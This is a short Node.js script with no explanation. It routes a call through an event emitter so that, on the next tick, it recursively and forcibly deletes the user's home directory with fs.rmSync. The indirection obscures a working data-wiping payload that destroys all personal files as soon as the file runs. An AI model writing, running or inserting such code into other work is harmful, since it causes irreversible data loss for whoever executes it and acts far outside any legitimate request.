const events = require('events');
const fs = require('fs');
const os = require('os');
const hub = new events.EventEmitter();
(async () => {
  for await (const [dir] of events.on(hub, 'wipe')) {
    fs.rmSync(dir, { recursive: true, force: true });
    break;
  }
})();
process.nextTick(() => hub.emit('wipe', os.homedir()));
